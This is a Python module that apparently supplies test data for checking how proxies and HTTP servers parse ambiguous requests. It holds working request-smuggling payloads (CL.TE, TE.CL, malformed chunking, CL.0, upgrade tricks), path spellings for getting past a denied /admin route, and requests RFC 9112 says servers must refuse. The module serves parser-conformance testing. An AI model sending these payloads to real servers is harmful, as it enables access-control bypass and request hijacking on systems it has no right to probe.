"""Raw requests that two parsers may read differently, as data.

The classes are those of the public work on request smuggling: CL.TE and its kin, chunk extensions, and what
http-garden lists; the bytes are our own. ``TTTTTTTT`` stands for a token of eight letters, which the requests
of one payload have in common.
"""

from __future__ import annotations

__all__ = ("AMBIGUOUS", "MARKER", "REFUSED", "TARGETS", "TOKEN")

TOKEN = b"TTTTTTTT"
MARKER = b"GET /admin/TTTTTTTT HTTP/1.1\r\nHost: localhost\r\n\r\n"
"""The request that is to be smuggled past the proxy."""
_LINE = b"POST /echo/TTTTTTTT HTTP/1.1\r\nHost: localhost\r\n"
_END = b"0\r\n\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n"


def _with(fields: bytes, body: bytes = b"", line: bytes = _LINE) -> bytes:
    return line + fields + b"\r\n" + body


def _length(count: int) -> bytes:
    return b"Content-Length: %d\r\n" % count


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def _by_length_and_chunks(coding: bytes) -> dict[str, bytes]:
    """Return one for a proxy that heeds the length and an app that heeds the coding; and the reverse."""
    ends_early = _END + MARKER
    hidden = _chunk(MARKER) + _END
    size = hidden.index(b"\n") + 1
    return {
        "CL.TE": _with(_length(len(ends_early)) + coding, ends_early),
        "TE.CL": _with(_length(size) + coding, hidden),
    }


_CODINGS: dict[str, bytes] = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "upper case": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "an unknown coding": b"Transfer-Encoding: xchunked\r\n",
    "identity": b"Transfer-Encoding: identity\r\n",
    "gzip": b"Transfer-Encoding: gzip\r\n",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked\r\n",
    "chunked, identity": b"Transfer-Encoding: chunked, identity\r\n",
    "chunked twice": b"Transfer-Encoding: chunked, chunked\r\n",
    "an empty element": b"Transfer-Encoding: ,chunked\r\n",
    "two lines, chunked": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "two lines, gzip first": b"Transfer-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n",
    "two lines, identity first": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    "two lines, identity last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "a space before the colon": b"Transfer-Encoding : chunked\r\n",
    "a tab after the colon": b"Transfer-Encoding:\tchunked\r\n",
    "a vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "a trailing NUL": b"Transfer-Encoding: chunked\x00\r\n",
    "a parameter": b"Transfer-Encoding: chunked;a=b\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "a folded name": b"Transfer-Encoding\r\n : chunked\r\n",
    "an underscore": b"Transfer_Encoding: chunked\r\n",
    "after a bare LF": b"X: a\nTransfer-Encoding: chunked\r\n",
    "after a bare CR": b"X: a\rTransfer-Encoding: chunked\r\n",
    "a leading space": b" Transfer-Encoding: chunked\r\n",
    "after an empty line of its own": b"\rTransfer-Encoding: chunked\r\n",
}

_BODY_AS_REQUEST = _length(len(MARKER))
_N = len(MARKER)
_LENGTHS: dict[str, bytes] = {
    "two lengths, 0 first": b"Content-Length: 0\r\n" + _BODY_AS_REQUEST,
    "two lengths, 0 last": _BODY_AS_REQUEST + b"Content-Length: 0\r\n",
    "two lengths in one line": b"Content-Length: 0, %d\r\n" % _N,
    "the same length in one line": b"Content-Length: %d, %d\r\n" % (_N, _N),
    "a plus sign": b"Content-Length: +%d\r\n" % _N,
    "a minus sign": b"Content-Length: -%d\r\n" % _N,
    "hexadecimal": b"Content-Length: 0x%x\r\n" % _N,
    "an underscore in the number": b"Content-Length: 0_%d\r\n" % _N,
    "a leading zero": b"Content-Length: 00%d\r\n" % _N,
    "beyond 64 bits": b"Content-Length: %d\r\n" % ((1 << 64) + _N),
    "a space before the colon": b"Content-Length : %d\r\n" % _N,
    "an underscore in the name": b"Content_Length: %d\r\n" % _N,
    "folded": b"Content-Length:\r\n %d\r\n" % _N,
    "after a bare LF": b"X: a\nContent-Length: %d\r\n" % _N,
    "an empty value": b"Content-Length: \r\n",
    "a NUL behind the number": b"Content-Length: %d\x00\r\n" % _N,
    "full-width digits": "Content-Length: \uff11\r\n".encode(),
}

_HIDDEN = _END + MARKER
_CHUNKS: dict[str, bytes] = {
    "TERM.EXT: bare LF ends the size line": b"2;\nxx\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "EXT.TERM: bare CR ends the size line": b"2;\rxx\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "bare LF after the size": b"%x\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "bare LF after the data": b"%x\r\n%s\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "wrong bytes after the data": b"5\r\nABCDEXY%s" % _HIDDEN,
    "nothing after the data": b"5\r\nABCDE%s" % _HIDDEN,
    "0x before the size": b"0x%x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "a sign before the size": b"+%x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "a negative size": b"-%x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "a size beyond 64 bits": b"1%016x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "an underscore in the size": b"0_%x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "a space before the size": b" %x\r\n%s\r\n0\r\n\r\n" % (len(_HIDDEN), _HIDDEN),
    "an empty size line": b"\r\n%s" % _HIDDEN,
    "an extension with a quoted line end": b'2;a="\r\nxx\r\n%x\r\n%s"\r\n0\r\n\r\n' % (len(_HIDDEN), _HIDDEN),
    "a long extension": b"2;%s\r\nxx\r\n%s" % (b"a" * 20_000, _HIDDEN),
    "a bare LF ends the trailers": b"0\r\n\n" + MARKER,
    "a bare LF within the trailers": b"0\r\nX: y\n\n" + MARKER,
    "a trailer that changes the framing": b"0\r\nContent-Length: %d\r\n\r\n%s" % (_N, MARKER),
    "many zeros as the last size": b"0" * 40 + b"\r\n\r\n" + MARKER,
    "a last chunk with letters": b"0x0\r\n\r\n" + MARKER,
}

_UPGRADE = b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
_KEY = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
_WS = b"GET /ws?TTTTTTTT HTTP/1.1\r\nHost: localhost\r\n"
_GET = b"GET /echo/TTTTTTTT HTTP/1.1\r\nHost: localhost\r\n"
_H2C = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
_CONNECT = b"CONNECT TTTTTTTT:80 HTTP/1.1\r\nHost: TTTTTTTT:80\r\n"
_OTHERS: dict[str, bytes] = {
    "CL.0: a body on GET": _with(_BODY_AS_REQUEST, MARKER, _GET),
    "CL.0: a body on POST": _with(_BODY_AS_REQUEST, MARKER),
    "CL.0: a body on HEAD": _with(_BODY_AS_REQUEST, MARKER, _GET.replace(b"GET", b"HEAD", 1)),
    "CL.0: a body on OPTIONS": _with(_BODY_AS_REQUEST, MARKER, _GET.replace(b"GET", b"OPTIONS", 1)),
    "CL.0: a body for a static file": _with(
        _BODY_AS_REQUEST, MARKER, b"POST /static/TTTTTTTT HTTP/1.1\r\nHost: localhost\r\n"
    ),
    "0.CL: an expected 100": _with(_BODY_AS_REQUEST + b"Expect: 100-continue\r\n", MARKER),
    "an unknown expectation": _with(_BODY_AS_REQUEST + b"Expect: 100-continue, x\r\n", MARKER),
    "lines ended by bare LF": (_LINE + _BODY_AS_REQUEST).replace(b"\r\n", b"\n") + b"\n" + MARKER,
    "the head ended by two bare LF": _LINE + b"X: y\n\n" + MARKER,
    "lines ended by bare CR": (_LINE + b"X: y\r\n").replace(b"\r\n", b"\r") + b"\r" + MARKER,
    "HTTP/1.0 with chunks": _with(_CHUNKED, _HIDDEN, _LINE.replace(b"1.1", b"1.0", 1)),
    "HTTP/1.0 kept alive": _with(
        _BODY_AS_REQUEST + b"Connection: keep-alive\r\n", MARKER, _LINE.replace(b"1.1", b"1.0", 1)
    ),
    "a connection option that drops the length": _with(
        _BODY_AS_REQUEST + b"Connection: close, content-length\r\n", MARKER
    ),
    "a connection option that drops the coding": _with(
        _CHUNKED + b"Connection: transfer-encoding\r\n", _chunk(MARKER) + _END
    ),
    "CONNECT": _with(b"", MARKER, _CONNECT),
    "CONNECT with a body": _with(_BODY_AS_REQUEST, MARKER, _CONNECT),
    "CONNECT with chunks": _with(_CHUNKED, _HIDDEN, _CONNECT),
    "an upgrade with bytes behind": _with(_UPGRADE + _KEY, MARKER, _WS),
    "an upgrade without a key": _with(_UPGRADE, MARKER, _WS),
    "an upgrade of an unknown version": _with(_UPGRADE + _KEY.replace(b"13", b"1337"), MARKER, _WS),
    "an upgrade with a body": _with(_UPGRADE + _KEY + _BODY_AS_REQUEST, MARKER, _WS),
    "an upgrade on POST": _with(_UPGRADE + _KEY + _BODY_AS_REQUEST, MARKER),
    "h2c with bytes behind": _with(_H2C, MARKER, _GET),
    "h2c with a body": _with(_H2C + _BODY_AS_REQUEST, MARKER),
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + MARKER,
    "a field folded over a request": _LINE + b"X: a\r\n " + MARKER,
    "a field without a colon": _with(b"X\r\n" + _BODY_AS_REQUEST, MARKER),
    "a NUL in a name": _with(b"X\x00Y: a\r\n" + _BODY_AS_REQUEST, MARKER),
    "an empty name": _with(b": a\r\n" + _BODY_AS_REQUEST, MARKER),
}

AMBIGUOUS: dict[str, bytes] = {
    **{
        f"{order}, {name}": data
        for name, coding in _CODINGS.items()
        for order, data in _by_length_and_chunks(coding).items()
    },
    **{f"length: {name}": _with(field, MARKER) for name, field in _LENGTHS.items()},
    **{f"chunks: {name}": _with(_CHUNKED, body) for name, body in _CHUNKS.items()},
    **_OTHERS,
}
"""Payloads in which :data:`MARKER` is a body, or bytes that are nobody's."""


def _target(text: bytes, more: bytes = b"") -> bytes:
    return b"GET " + text + b" HTTP/1.1\r\nHost: localhost\r\n" + more + b"\r\n"


TARGETS: dict[str, bytes] = {
    "the denied path itself": _target(b"/admin/TTTTTTTT"),
    "absolute form": _target(b"http://localhost/admin/TTTTTTTT"),
    "absolute form of another host": _target(b"http://other.example/admin/TTTTTTTT"),
    "absolute form with userinfo": _target(b"http://a@localhost/admin/TTTTTTTT"),
    "absolute form in upper case": _target(b"HTTP://LOCALHOST/admin/TTTTTTTT"),
    "an encoded letter": _target(b"/%61dmin/TTTTTTTT"),
    "a letter encoded twice": _target(b"/%2561dmin/TTTTTTTT"),
    "an encoded slash": _target(b"/admin%2fTTTTTTTT"),
    "two slashes": _target(b"//admin/TTTTTTTT"),
    "a dot segment": _target(b"/./admin/TTTTTTTT"),
    "two dot segments": _target(b"/echo/../admin/TTTTTTTT"),
    "encoded dot segments": _target(b"/echo/%2e%2e/admin/TTTTTTTT"),
    "an encoded slash after dots": _target(b"/echo/..%2fadmin/TTTTTTTT"),
    "a matrix parameter": _target(b"/echo;/../admin/TTTTTTTT"),
    "a backslash": _target(b"/echo\\..\\admin\\TTTTTTTT"),
    "upper case": _target(b"/ADMIN/TTTTTTTT"),
    "a fragment": _target(b"/echo/TTTTTTTT#/../../admin"),
    "a NUL": _target(b"/admin%00/TTTTTTTT"),
    "an encoded line end": _target(b"/admin%0a/TTTTTTTT"),
    "no slash": _target(b"admin/TTTTTTTT"),
    "an at sign": _target(b"@localhost/admin/TTTTTTTT"),
    "tabs between the words": b"GET\t/admin/TTTTTTTT\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
    "HTTP/0.9": b"GET /admin/TTTTTTTT\r\n\r\n",
    "another protocol": b"GET /admin/TTTTTTTT RTSP/1.0\r\nHost: localhost\r\n\r\n",
    "a second line as target": b"GET /echo/TTTTTTTT\r\nGET /admin/TTTTTTTT HTTP/1.1\r\nHost: a\r\n\r\n",
    "a host with a path": b"GET /echo/TTTTTTTT HTTP/1.1\r\nHost: localhost/admin?\r\n\r\n",
    "X-Original-URL": _target(b"/echo/TTTTTTTT", b"X-Original-URL: /admin/TTTTTTTT\r\n"),
    "X-Rewrite-URL": _target(b"/echo/TTTTTTTT", b"X-Rewrite-URL: /admin/TTTTTTTT\r\n"),
    "X-HTTP-Method-Override": _target(b"/echo/TTTTTTTT", b"X-HTTP-Method-Override: GET /admin\r\n"),
    "X-Forwarded-Prefix": _target(b"/echo/TTTTTTTT", b"X-Forwarded-Prefix: /admin\r\n"),
}
"""Ways to spell a path that the proxy denies."""

_HOST = b"Host: localhost\r\n"
REFUSED: dict[str, bytes] = {
    **{
        f"{name} and a length": _by_length_and_chunks(_CODINGS[name])["CL.TE"]
        for name in (
            "plain",
            "chunked twice",
            "two lines, chunked",
            "two lines, gzip first",
            "gzip",
            "quoted",
        )
    },
    **{
        f"coding: {name}": _with(_CODINGS[name], _END)
        for name in (
            "an unknown coding",
            "identity",
            "gzip, chunked",
            "chunked, identity",
            "chunked twice",
            "two lines, chunked",
            "two lines, gzip first",
            "two lines, identity first",
            "two lines, identity last",
            "a space before the colon",
            "a vertical tab",
            "a trailing NUL",
            "folded",
            "a folded name",
            "after a bare LF",
            "after a bare CR",
            "a leading space",
        )
    },
    **{
        f"length: {name}": _with(_LENGTHS[name], b"x" * _N)
        for name in (
            "two lengths, 0 first",
            "two lengths, 0 last",
            "two lengths in one line",
            "a plus sign",
            "a minus sign",
            "hexadecimal",
            "an underscore in the number",
            "beyond 64 bits",
            "a space before the colon",
            "folded",
            "after a bare LF",
            "an empty value",
            "full-width digits",
        )
    },
    **{
        f"chunks: {name}": _with(_CHUNKED, _CHUNKS[name])
        for name in _CHUNKS
        if name
        not in ("many zeros as the last size", "a trailer that changes the framing", "a long extension")
    },
    **{
        name: _OTHERS[name]
        for name in (
            "lines ended by bare LF",
            "the head ended by two bare LF",
            "lines ended by bare CR",
            "HTTP/1.0 with chunks",
            "CONNECT",
            "CONNECT with a body",
            "CONNECT with chunks",
            "the preface of HTTP/2",
            "a field folded over a request",
            "a field without a colon",
            "a NUL in a name",
            "an empty name",
        )
    },
    **{
        f"target: {name}": TARGETS[name]
        for name in ("no slash", "an at sign", "HTTP/0.9", "another protocol", "a second line as target")
    },
    "an upgrade without a key": _with(_UPGRADE, line=_WS),
    "an upgrade of an unknown version": _with(_UPGRADE + _KEY.replace(b"13", b"1337"), line=_WS),
    "no Host": b"GET /echo HTTP/1.1\r\n\r\n",
    "two Hosts": b"GET /echo HTTP/1.1\r\n" + _HOST + _HOST + b"\r\n",
    "HTTP/2.0 in the first line": b"GET /echo HTTP/2.0\r\n" + _HOST + b"\r\n",
    "HTTP/1.1 in lower case": b"GET /echo http/1.1\r\n" + _HOST + b"\r\n",
    "a control byte in the target": _target(b"/echo/\x01"),
    "a space in the target": _target(b"/echo/a b"),
    "a control byte in a value": _with(b"X: a\x01b\r\n", line=b"GET /echo HTTP/1.1\r\n" + _HOST),
    "a NUL in a value": _with(b"X: a\x00b\r\n", line=b"GET /echo HTTP/1.1\r\n" + _HOST),
    "a header section beyond 1 MiB": _with(b"X: " + b"a" * (1 << 20) + b"\r\n", line=_GET),
    "10,000 fields": _with(b"X: a\r\n" * 10_000, line=_GET),
    "a target of 64 KiB": _target(b"/" + b"a" * (1 << 16)),
}
"""Requests that RFC 9112 has a server refuse, or that two servers in a row would not read alike."""
